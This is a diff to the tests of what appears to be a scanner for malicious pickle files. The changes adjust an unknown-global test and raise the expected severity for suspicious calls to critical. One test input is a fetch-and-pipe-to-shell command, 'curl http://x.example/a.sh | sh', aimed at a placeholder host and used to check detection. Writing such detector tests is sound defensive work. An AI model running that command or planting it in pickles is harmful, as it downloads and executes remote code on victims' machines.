@@ -97,7 +97,8 @@ def test_trailing_non_pickle_data_is_reported() -> None:
 
 def test_unknown_global_is_medium_with_module_name_evidence() -> None:
     sink = FindingSink("f.pkl", "hfvet-pickle")
-    analyze_pickles(io.BytesIO(op.system_call("sklearn.tree._tree", "Tree", "x")), sink, Limits())
+    # Imported, never called (a call is judged too: pickle-unknown-call, test_calls.py).
+    analyze_pickles(io.BytesIO(op.proto(2) + op.glob("sklearn.tree._tree", "Tree") + op.STOP), sink, Limits())
     [finding] = sink.findings
     assert (finding.rule, finding.severity, finding.evidence) == (
         "pickle-unknown-global", Severity.MEDIUM, "sklearn.tree._tree.Tree")
@@ -160,7 +161,7 @@ def test_gadgets(data: bytes, rule: str) -> None:
 
 def test_unknown_callable_with_a_command_argument_is_suspicious() -> None:
     _, findings = run(op.system_call("somelib.tools", "Helper", "curl http://x.example/a.sh | sh"))
-    assert ("pickle-suspicious-call", "high") in findings
+    assert ("pickle-suspicious-call", "critical") in findings  # issue 11: command-like arguments are critical
     assert ("pickle-unknown-global", "medium") in findings
 
 
